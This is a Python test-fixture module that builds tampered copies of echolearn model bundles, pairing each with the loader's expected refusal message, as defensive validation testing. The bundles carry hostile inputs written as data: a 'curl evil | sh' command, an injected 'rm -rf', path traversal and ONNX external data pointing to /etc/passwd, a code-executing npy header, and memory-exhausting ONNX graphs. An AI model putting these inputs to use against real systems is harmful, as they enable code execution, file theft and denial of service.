"""Bundles as an enemy or a bad disk would leave them: `BUNDLES`, what is done to a copy and what
the refusal says."""

import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper

from echolearn.robot import bundle, schema
from echolearn.storage import manifests
from echolearn.storage.files import json_bytes, sha256

Mutate = Callable[[Path], None]
FILES = ("bundle.json", "model.onnx", "golden.npz", "probe.wav")
BUNDLES: dict[str, tuple[Mutate, str]] = {}
"""What is done to a copy of a bundle, and what the refusal says."""


def seal(folder: Path, **changes: Any) -> None:
    """Make every checksum right again, as an enemy would, after changing keys of `bundle.json`; ...
    removes one."""
    about = json.loads((folder / "bundle.json").read_text())
    about.pop("sha256")
    about = {key: value for key, value in (about | changes).items() if value is not ...}
    if isinstance(about.get("files"), dict) and "files" not in changes:
        about["files"] = {
            name: {"bytes": (folder / name).stat().st_size, "sha256": sha256(folder / name)}
            for name in schema.LIMITS
            if (folder / name).is_file()
        }
    (folder / "bundle.json").write_bytes(json_bytes(manifests.with_checksum(about)))


def keys(said: str, **changes: Any) -> tuple[Mutate, str]:
    """Return the mutation that changes keys and seals."""
    return lambda folder: seal(folder, **changes), said


def nested(said: str, part: str, **changes: Any) -> tuple[Mutate, str]:
    """Return the mutation that changes keys within a mapping and seals."""

    def mutate(folder: Path) -> None:
        inside = json.loads((folder / "bundle.json").read_text())[part] | changes
        seal(folder, **{part: {key: value for key, value in inside.items() if value is not ...}})

    return mutate, said


def flip(name: str, share: float, bit: int) -> Mutate:
    """Return the mutation that flips one bit."""

    def mutate(folder: Path) -> None:
        data = bytearray((folder / name).read_bytes())
        data[int(share * (len(data) - 1))] ^= 1 << bit
        (folder / name).write_bytes(data)

    return mutate


def cut(name: str, share: float, *, sealed: bool = False) -> Mutate:
    """Return the mutation that keeps a share of a file."""

    def mutate(folder: Path) -> None:
        data = (folder / name).read_bytes()
        (folder / name).write_bytes(data[: int(share * len(data))])
        if sealed:
            seal(folder)

    return mutate


def replaced(name: str, make: Callable[[bytes], bytes]) -> Mutate:
    """Return the mutation that rewrites a file and seals."""

    def mutate(folder: Path) -> None:
        (folder / name).write_bytes(make((folder / name).read_bytes()))
        seal(folder)

    return mutate


def model(change: Callable[[Any], object]) -> Mutate:
    """Return the mutation that changes the ONNX model and seals."""

    def make(data: bytes) -> bytes:
        proto = onnx.load_from_string(data)
        change(proto)
        return bytes(proto.SerializeToString())

    return replaced("model.onnx", make)


def arrays(**changes: Any) -> Mutate:
    """Return the mutation that saves other golden arrays and seals."""

    def make(data: bytes) -> bytes:
        from io import BytesIO

        held = dict(np.load(BytesIO(data)))
        buffer = BytesIO()
        changed = {key: value(held.get(key)) for key, value in changes.items()}
        (np.savez_compressed if "zipped" in changes else np.savez)(
            buffer, **{k: v for k, v in (held | changed).items() if v is not None}
        )
        return buffer.getvalue()

    return replaced("golden.npz", make)


def graph(*nodes: Any, initializers: tuple[Any, ...] = (), domain: str = "") -> Mutate:
    """Return the mutation that puts another model in place, from x (b, 4) to confidence (b,)."""
    ends = [
        helper.make_tensor_value_info("x", TensorProto.FLOAT, ["b", 4]),
        helper.make_tensor_value_info("confidence", TensorProto.DOUBLE, ["c"]),
    ]
    sets = [helper.make_opsetid("", 20), *([helper.make_opsetid(domain, 1)] if domain else [])]
    proto = helper.make_model(
        helper.make_graph(list(nodes), "g", ends[:1], ends[1:], list(initializers)),
        opset_imports=sets,
        ir_version=10,
    )
    return replaced("model.onnx", lambda _: proto.SerializeToString())


def external(proto: Any) -> None:
    """Move a tensor into another file."""
    tensor = proto.graph.initializer[0]
    tensor.ClearField("raw_data")
    tensor.data_location = TensorProto.EXTERNAL
    tensor.external_data.add(key="location", value="/etc/passwd")


def inner(kind: str) -> Any:
    """Return a node that holds a subgraph: a loop that would run a million million times."""
    body = helper.make_graph([], "body", [], [])
    return helper.make_node(kind, ["x"], ["confidence"], body=body)


def linked(name: str, target: str) -> Mutate:
    """Return the mutation that puts a symbolic link in a file's place."""

    def mutate(folder: Path) -> None:
        content = (folder / name).read_bytes()
        (folder.parent / "outside").write_bytes(content)
        (folder / name).unlink()
        (folder / name).symlink_to(target)

    return mutate


def pipe(folder: Path) -> None:
    """Put a pipe, which nobody ever writes to, in a file's place."""
    (folder / "model.onnx").unlink()
    os.mkfifo(folder / "model.onnx")


def huge(name: str) -> Mutate:
    """Return the mutation that makes a file a terabyte long, without a byte of it on the disk."""
    return lambda folder: os.truncate(folder / name, 1 << 40)


def swap(first: str, second: str, *, sealed: bool) -> Mutate:
    """Return the mutation that exchanges two files."""

    def mutate(folder: Path) -> None:
        a, b = (folder / first).read_bytes(), (folder / second).read_bytes()
        (folder / first).write_bytes(b)
        (folder / second).write_bytes(a)
        if sealed:
            seal(folder)

    return mutate


def constant(value: Any, name: str) -> Any:
    return numpy_helper.from_array(np.asarray(value), name)


def nudge(proto: Any) -> None:
    """Change one number of the model: the calibration's slope or whatever is scalar and double
    first."""
    tensor = next(
        t for t in proto.graph.initializer if t.data_type == TensorProto.DOUBLE and not t.dims
    )
    tensor.CopyFrom(numpy_helper.from_array(numpy_helper.to_array(tensor) * 1.5 + 0.1, tensor.name))


def npy(header: str) -> Callable[[bytes], bytes]:
    """Return a function that makes an archive whose first array has that header and no data."""

    def make(_: bytes) -> bytes:
        import zipfile
        from io import BytesIO

        buffer = BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            text = header.encode().ljust(117) + b"\n"
            for name in ("x.npy", "confidence.npy"):
                archive.writestr(
                    name, b"\x93NUMPY\x01\x00" + len(text).to_bytes(2, "little") + text
                )
        return buffer.getvalue()

    return make


for file_ in FILES:
    for place, bit in ((0.0, 0), (0.3, 7), (0.5, 1), (0.77, 4), (1.0, 2)):
        BUNDLES[f"bit {bit} at {place} of {file_}"] = (flip(file_, place, bit), f"{file_}")
    for share in (0.0, 0.5, 0.99):
        BUNDLES[f"{share} of {file_}"] = (cut(file_, share), file_)
    BUNDLES[f"{file_} absent"] = (
        lambda folder, name=file_: (folder / name).unlink(),
        f"{file_}: cannot be read",
    )  # type: ignore[misc]
    BUNDLES[f"{file_} a link out"] = (
        linked(file_, "../outside"),
        f"{file_}: cannot be read (it is a symbolic link",
    )
    BUNDLES[f"{file_} a terabyte"] = (huge(file_), "1099511627776 bytes: at most")
for file_ in FILES[1:]:
    BUNDLES[f"half of {file_}, sealed"] = (cut(file_, 0.5, sealed=True), file_)
    BUNDLES[f"nothing of {file_}, sealed"] = (cut(file_, 0.0, sealed=True), file_)

BUNDLES |= {
    "no folder": (lambda folder: folder.rename(folder.parent / "gone"), "a folder that echolearn export wrote"),
    "a pipe": (pipe, "model.onnx=not a plain file"),
    "a device": (linked("probe.wav", "/dev/zero"), "it is a symbolic link"),
    "swapped": (swap("model.onnx", "golden.npz", sealed=False), "damaged"),
    "swapped, sealed": (swap("model.onnx", "golden.npz", sealed=True), "golden.npz: not the arrays"),
    "swapped probe, sealed": (swap("model.onnx", "probe.wav", sealed=True), "not an ONNX file"),
    "not JSON": (lambda f: (f / "bundle.json").write_text("{"), "cannot be read as JSON"),  # type: ignore[func-returns-value, arg-type, return-value]
    "a list": (lambda f: (f / "bundle.json").write_text("[]"), "damaged"),  # type: ignore[return-value, arg-type]
    "nested without end": (lambda f: (f / "bundle.json").write_text("[" * 10**5), "cannot be read as JSON"),  # type: ignore[return-value, arg-type]
    "a number without end": (lambda f: (f / "bundle.json").write_text("9" * 10**5), "cannot be read as JSON"),  # type: ignore[return-value, arg-type]
    "NaN in JSON": (
        lambda f: (f / "bundle.json").write_text((f / "bundle.json").read_text().replace("343.0", "NaN")),  # type: ignore[return-value, arg-type]
        "cannot be read as JSON",
    ),
    "a later schema": keys("schema=3: 2; this echolearn reads schema 2; update it or export again", schema=3),
    "the schema before": keys("schema=1: 2; this echolearn reads schema 2; update it or export", schema=1, parity=1e-7),
    "schema as text": keys("schema=2", schema="2"),
    "schema true": keys("schema=True", schema=True),
    "another kind": keys("kind=set: bundle", kind="set"),
    "no threshold": keys("without threshold", threshold=...),
    "no files": keys("without files", files=...),
    "a key too many": keys("with code", code="import os"),
    "files up": keys("files=['../../etc/passwd']", files={"../../etc/passwd": {"bytes": 1, "sha256": "0"}}),
    "files absolute": keys("files=['/etc/passwd']", files={"/etc/passwd": {"bytes": 1, "sha256": "0"}}),
    "files a list": keys("files=['model.onnx']", files=["model.onnx"]),
    "files without sums": keys("damaged", files=dict.fromkeys(schema.LIMITS)),
    "threshold NaN": nested("threshold.value=nan", "threshold", value="nan"),
    "threshold 2": nested("threshold.value=2", "threshold", value=2),
    "threshold true": nested("threshold.value=True", "threshold", value=True),
    "threshold without value": nested("threshold=['chosen']", "threshold", value=...),
    "threshold a number": keys("threshold=0.5: a mapping with value chosen", threshold=0.5),
    "another label": nested("label.name=wall", "label", name="wall"),
    "rate 0": keys("sample_rate=0 Hz", sample_rate=0),
    "rate as text": keys("sample_rate=fast Hz", sample_rate="fast"),
    "another rate": keys("probe.wav=", sample_rate=44100.0),
    "speed of light": keys("speed_of_sound=300000000.0", speed_of_sound=3e8),
    "no microphones": keys("array=0 microphones", array=[]),
    "one microphone fewer": keys("", array=[[0.2, 0.0, 0.0]] * 1000),
    "flat microphones": keys("array=[0.2, 0.0]", array=[[0.2, 0.0]]),
    "text for microphones": keys("array=here", array="here"),
    "microphone far away": keys("array=1e+30 m", array=[[1e30, 0.0, 0.0]]),
    "window turned": nested("window.nearest=5.0 m", "window", nearest=5.0),
    "window of text": nested("window.nearest=near", "window", nearest="near"),
    "window with more": nested("window=", "window", run="rm"),
    "window rule": nested("window.rule=all", "window", rule="all"),
    "another localizer": nested("localizer.name=os.system", "localizer", name="os.system"),
    "a function": nested("localizer.name=snls.mpdr_spectrum", "localizer", name="snls.mpdr_spectrum"),
    "another's class": nested("localizer.name=gated.Matched", "localizer", name="gated.Matched"),
    "no localizer at all": nested("localizer.name=matched.Matched", "localizer", name="matched.Matched"),
    "a path": nested("localizer.name=../x.Gated", "localizer", name="../x.Gated"),
    "dunder": nested("localizer.name=gated.__class__", "localizer", name="gated.__class__"),
    "a number for a name": nested("localizer.name=7", "localizer", name=7),
    "giant grid": nested("localizer.azimuths=1000000000", "localizer", arguments={"azimuths": 10**9}),
    "unknown argument": nested("localizer.arguments={'shell': 1}", "localizer", arguments={"shell": 1}),
    "list argument": nested("localizer.arguments={'azimuths': [36]}", "localizer", arguments={"azimuths": [36]}),
    "another column": keys("columns=['snr_db']", columns=[{"name": "snr_db", "unit": "dB"}]),
    "another unit": keys("columns=['ms']: the units ['s']", columns=[{"name": "toa", "unit": "ms"}]),
    "no columns": keys("columns=[]", columns=[]),
    "fewer columns": keys("input_shape=[4]: [1]", columns=[{"name": "joint", "unit": "1"}]),
    "columns twice": keys("each once", columns=[{"name": "joint", "unit": "1"}] * 4),
    "giant input": keys("input_shape=[1000000000000]", input_shape=[10**12]),
    "negative input": keys("input_shape=[-4]", input_shape=[-4]),
    "another view": keys("view=patch", view="patch"),
    "tensor of columns": keys("columns=", view="covariance"),
    "probe length": nested("probe.length=", "probe", length=10**15),
    "burst": nested("probe.burst=7: 1500, as probe.wav has it", "probe", burst=7),
    "probe of NaN": (
        replaced("probe.wav", lambda d: d[:-4] + np.float32("nan").tobytes()), "NaN or silence"
    ),
    "probe of silence": (
        replaced("probe.wav", lambda d: d[:-24000] + bytes(24000)), "NaN or silence"
    ),
    "giant chunk": (replaced("probe.wav", lambda d: d[:16] + b"\xff" * 4 + d[20:]), "probe.wav="),
    "golden other inputs": (arrays(x=lambda x: x[::-1]), "golden confidences differ"),
    "golden other answers": (arrays(confidence=lambda c: c + 1e-4), "golden confidences differ by 0.0001"),
    "golden NaN": (arrays(confidence=lambda c: c * np.nan), "golden.npz confidence=NaN or infinity"),
    "golden infinity": (arrays(x=lambda x: x + np.float32(np.inf)), "golden.npz x=NaN or infinity"),
    "golden double": (arrays(x=lambda x: x.astype(float)), "not the arrays it should hold"),
    "golden fewer": (arrays(x=lambda x: x[:5]), "not the arrays it should hold"),
    "golden objects": (arrays(x=lambda x: np.array([{}, 1], dtype=object)), "not the arrays it should hold"),
    "golden one more": (arrays(code=lambda _: np.zeros(1)), "not the arrays it should hold"),
    "golden one fewer": (arrays(confidence=lambda _: None), "not the arrays it should hold"),
    "golden zipped": (arrays(zipped=lambda _: np.zeros(1)), "not the arrays it should hold"),
    "golden giant": (
        replaced("golden.npz", npy("{'descr': '<f4', 'fortran_order': False, 'shape': (10000000000, 4)}")), "npz"
    ),
    "golden no literal": (replaced("golden.npz", npy("__import__('os').system('true')")), "not the arrays"),
    "model of text": (replaced("model.onnx", lambda _: b"import os"), "model.onnx=no operators: an ONNX model"),
    "model with tail": (replaced("model.onnx", lambda d: d + b"\xff" * 9), "not an ONNX file"),
    "model nudged": (model(nudge), "golden confidences differ"),
    "model external": (model(external), "contains data in another file"),
    "model of a custom domain": (
        graph(helper.make_node("Steal", ["x"], ["confidence"], domain="evil"), domain="evil"),
        "domain='evil': operators of ONNX itself, none custom",
    ),
    "model of Microsoft's domain": (
        graph(helper.make_node("Gelu", ["x"], ["confidence"], domain="com.microsoft"), domain="com.microsoft"),
        "domain='com.microsoft'",
    ),
    "model with a loop": (graph(inner("Loop")), "contains a subgraph"),
    "model with a branch": (graph(inner("If")), "contains a subgraph"),
    "model of an unknown operator": (graph(helper.make_node("Steal", ["x"], ["confidence"])), "onnxruntime refuses it"),
    "model without nodes": (graph(), "no operators"),
    "model of giant dims": (
        model(lambda m: m.graph.initializer[0].dims.extend([2**40])), "elements: as many as it holds"
    ),
    "model of negative dims": (
        model(lambda m: m.graph.initializer[0].dims.extend([-5])), "elements: as many as it holds"
    ),
    "model of many nodes": (
        graph(*(helper.make_node("Identity", [f"a{i}"], [f"a{i + 1}"]) for i in range(6000))), "operators=5001"
    ),
    "model of other ends": (
        graph(
            helper.make_node("ReduceSum", ["x", "axis"], ["sum"], keepdims=0),
            helper.make_node("Cast", ["sum"], ["confidence"], to=TensorProto.FLOAT),
            initializers=(constant([1], "axis"),),
        ),
        "onnxruntime refuses it",
    ),
    "model of giant memory": (
        graph(
            helper.make_node("Expand", ["zero", "size"], ["big"]),
            helper.make_node("Cast", ["big"], ["confidence"], to=TensorProto.DOUBLE),
            initializers=(constant(np.zeros(1, np.float32), "zero"), constant([2**33], "size")),
        ),
        "cannot be computed",
    ),
    "model that answers beyond 1": (
        graph(
            helper.make_node("ReduceMax", ["x", "axis"], ["most"], keepdims=0),
            helper.make_node("Cast", ["most"], ["confidence"], to=TensorProto.DOUBLE),
            initializers=(constant([1], "axis"),),
        ),
        "32 numbers from 0 to 1",
    ),
}  # fmt: skip


def header(place: int, value: int, size: int = 4) -> Mutate:
    """Return the mutation that overwrites a number of `probe.wav`'s header and seals."""
    return replaced(
        "probe.wav", lambda d: d[:place] + value.to_bytes(size, "little") + d[place + size :]
    )


def declared(size: int) -> Mutate:
    """Return the mutation that lets the golden archive declare members of that size."""

    def make(data: bytes) -> bytes:
        place = data.index(b"PK\x01\x02")
        return data[: place + 20] + size.to_bytes(4, "little") * 2 + data[place + 28 :]

    return replaced("golden.npz", make)


def maker(kind: str, *inputs: Any, **attributes: Any) -> Mutate:
    """Return the mutation that puts a model in place that makes something of nothing but constants."""
    names = [f"i{number}" for number in range(len(inputs))]
    return graph(
        helper.make_node(kind, names, ["big"], **attributes),
        helper.make_node("ReduceMax", ["big"], ["most"], keepdims=0),
        helper.make_node("Cast", ["most"], ["confidence"], to=TensorProto.DOUBLE),
        initializers=tuple(
            constant(value, name) for value, name in zip(inputs, names, strict=True)
        ),
    )


def told(part: str, **changes: Any) -> tuple[Mutate, str]:
    """Return the mutation that changes keys within a mapping, whose refusal names the mapping."""
    return nested(part, part, **changes)


MANY = 2**34
ONE = np.ones(1, np.float32)
BUNDLES |= {
    f"probe's {name}": (header(place, value, size), "probe.wav=")
    for name, (place, value, size) in {
        "channels": (22, 65535, 2),
        "rate": (24, 2**32 - 1, 4),
        "format": (20, 1, 2),
        "size of data": (54, 2**32 - 1, 4),
        "magic": (0, 0, 4),
    }.items()
}
BUNDLES |= {
    f"model that makes much by {name}": (mutate, "model.onnx")
    for name, mutate in {
        "ConstantOfShape": maker("ConstantOfShape", np.array([MANY])),
        "Range": maker("Range", np.array(0.0), np.array(1e12), np.array(1.0)),
        "Tile": maker("Tile", ONE, np.array([MANY])),
        "Pad": maker("Pad", ONE, np.array([0, MANY])),
        "RandomNormal": maker("RandomNormal", shape=[MANY]),
        "OneHot": maker("OneHot", np.array([0]), np.array(MANY), np.array([0.0, 1.0], np.float32)),
        "Resize": maker(
            "Resize", ONE[None, None], ONE[:0], np.array([1.0, 1.0, 2.0**34], np.float32)
        ),
    }.items()
}
BUNDLES |= {
    "model of a product": (
        graph(
            helper.make_node("Expand", ["one", "tall"], ["a"]),
            helper.make_node("Expand", ["one", "wide"], ["b"]),
            helper.make_node("Mul", ["a", "b"], ["c"]),
            helper.make_node("ReduceMax", ["c", "axes"], ["most"], keepdims=0),
            helper.make_node("Cast", ["most"], ["confidence"], to=TensorProto.DOUBLE),
            initializers=(
                constant(ONE, "one"), constant([2**20, 1], "tall"), constant([1, 2**20], "wide"), constant([1], "axes"),
            ),
        ),
        "cannot be computed",
    ),
    "model with a function": (model(lambda m: m.functions.add(name="f", domain="")), "contains functions"),
    "model with training": (model(lambda m: m.training_info.add()), "contains training info"),
    "model of a newer operator set": (
        model(lambda m: setattr(m.opset_import[0], "version", 10**6)), "onnxruntime refuses it",
    ),
    "model of a newer format": (model(lambda m: setattr(m, "ir_version", 10**6)), "onnxruntime refuses it"),
    "model of another input": (model(lambda m: setattr(m.graph.input[0], "name", "y")), "model.onnx"),
    "model without output": (model(lambda m: m.graph.output.pop()), "model.onnx"),
    "model of NaN": (
        graph(
            helper.make_node("ReduceMax", ["x", "axis"], ["most"], keepdims=0),
            helper.make_node("Cast", ["most"], ["much"], to=TensorProto.DOUBLE),
            helper.make_node("Mul", ["much", "nan"], ["confidence"]),
            initializers=(constant([1], "axis"), constant(np.nan, "nan")),
        ),
        "32 numbers from 0 to 1",
    ),
    "golden of giant members": (declared(2**31), "not the arrays"),
    "golden of no size": (declared(0), "not the arrays"),
    "golden twice": (replaced("golden.npz", lambda d: d + d[:-9]), "golden.npz"),
    "golden of a later npy": (
        replaced("golden.npz", lambda d: d.replace(b"NUMPY\x01", b"NUMPY\x03")), "not the arrays"
    ),
    "golden of other order": (
        replaced("golden.npz", lambda d: d.replace(b"'fortran_order': False", b"'fortran_order': True ")),
        "not the arrays",
    ),
    "a classifier that is a number": keys("classifier=5: a printable text", classifier=5),
    "a name that moves the cursor": keys("name='\\x1b[2J", name="\x1b[2Jbest"),
    "a run of two lines": keys("run='a\\nb'", run="a\nb"),
    "trained on nothing": keys("trained_on=''", trained_on=""),
    "an endless text": keys("name='aaa", name="a" * 10**5),
    "a seed of text": keys("seed=zero", seed="zero"),
    "a negative seed": keys("seed=-1", seed=-1),
    "another's command": keys("command='curl evil | sh': one command line of echolearn", command="curl evil | sh"),
    "a command with a tail": keys("command='echolearn export; rm", command="echolearn export; rm -rf x"),
    "data as a list": keys("data=[]: a mapping with plan digest rows", data=[]),
    "data of no rows": told("data", rows=0),
    "data without digest": told("data", digest=...),
    "parity as a number": keys("parity=1e-07: a mapping with difference trials", parity=1e-7),
    "parity too large": told("parity", difference=0.1),
    "parity of no trials": told("parity", trials=0),
    "no slope": told("calibration", slope=...),
    "slope of text": told("calibration", slope="steep"),
    "metrics of text": keys("metrics=good", metrics="good"),
    "metrics of no figures": told("metrics", held_out={"set": "a", "rows": 1, "figures": []}),
    "metrics of text figures": told(
        "metrics", held_out={"set": "a", "rows": 1, "figures": {"auc": {"value": "1", "ci_low": 0, "ci_high": 1}}}
    ),
    "metrics without interval": told("metrics", held_out={"set": "a", "rows": 1, "figures": {"auc": {"value": 1}}}),
    "maps of text": told("metrics", maps=["hall"]),
    "maps as a mapping": told("metrics", maps={}),
    "versions as a list": keys("versions=[]", versions=[]),
    "versions of numbers": keys("versions.numpy=2", versions={"numpy": 2}),
    "another golden number": keys("golden=33: 32", golden=33),
    "another true label": nested("label.true=anything", "label", true="anything"),
    "another probe file": nested("probe.file=/etc/passwd: probe.wav", "probe", file="/etc/passwd"),
    "threshold chosen by a number": nested("threshold.chosen=7", "threshold", chosen=7),
    "bands of text": keys("bands=16", bands="16"),
    "speed of NaN": keys("speed_of_sound=None", speed_of_sound=None),
}  # fmt: skip
